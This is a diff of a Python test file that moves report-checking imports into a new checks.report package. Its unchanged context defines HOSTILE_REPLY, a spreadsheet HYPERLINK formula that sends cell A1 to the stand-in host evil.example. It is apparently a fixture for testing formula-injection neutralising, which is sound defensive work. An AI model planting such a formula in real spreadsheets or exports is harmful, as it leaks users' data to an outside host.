@@ -10,7 +10,7 @@ import json
 import pytest
 
 from checks.model import CheckId, CheckResult, RunReport, Status, Verdict
-from checks.report import (
+from checks.report.export import (
     REPORT_COLUMNS,
     md_cell,
     neutralise,
@@ -23,9 +23,9 @@ from checks.report import (
     verdict_line,
     write_report,
 )
-from checks.report_compare import Change, compare
-from checks.report_import import ImportedReport, ReportFormatError, read_report
-from checks.terminal import render_table, safe_text
+from checks.report.compare import Change, compare
+from checks.report.reader import ImportedReport, ReportFormatError, read_report
+from checks.report.table import render_table, safe_text
 
 STARTED = dt.datetime(2026, 11, 28, 10, 0, 5, 123456, tzinfo=dt.UTC)
 HOSTILE_REPLY = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
